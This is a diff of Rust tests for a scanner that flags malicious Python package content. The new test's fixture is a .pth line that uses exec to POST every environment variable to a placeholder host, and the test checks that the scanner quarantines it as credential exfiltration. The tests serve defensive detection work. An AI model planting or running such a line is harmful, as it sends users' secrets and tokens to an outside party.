@@ -3,6 +3,7 @@ use super::*;
 fn rules(text: &str, kind: Kind) -> Vec<(String, Severity, Option<Context>)> {
     scan("pkg/mod.py", text, kind)
         .expect("parses")
+        .findings
         .into_iter()
         .map(|f| (f.finding.rule, f.finding.severity, f.finding.context))
         .collect()
@@ -221,7 +222,7 @@ fn pth_lines_hold_only_when_they_do_more_than_import() {
 fn scan_on_small_stack(text: String) -> Result<usize, String> {
     std::thread::Builder::new()
         .stack_size(2 << 20)
-        .spawn(move || scan("pkg/deep.py", &text, Kind::Module).map(|f| f.len()))
+        .spawn(move || scan("pkg/deep.py", &text, Kind::Module).map(|s| s.findings.len()))
         .expect("spawns")
         .join()
         .expect("the scan does not crash")
@@ -289,4 +290,21 @@ fn values_that_contain_themselves_do_not_loop() {
     for text in shapes {
         scan_on_small_stack(text).expect("parses");
     }
+}
+
+#[test]
+fn code_run_by_exec_sees_the_callers_imports() {
+    let line = "import os, json, urllib.request; exec('try:\\n urllib.request.urlopen(\"https://h.invalid/e\", data=json.dumps(dict(os.environ)).encode())\\nexcept Exception:\\n pass')\n";
+    let found: Vec<(String, Severity)> = scan_pth("x.pth", line)
+        .into_iter()
+        .map(|f| (f.finding.rule, f.finding.severity))
+        .collect();
+    assert!(
+        found.contains(&("code.credential-exfil".into(), Severity::Quarantine)),
+        "{found:?}"
+    );
+    assert!(
+        found.contains(&("install.pth-import".into(), Severity::Quarantine)),
+        "{found:?}"
+    );
 }
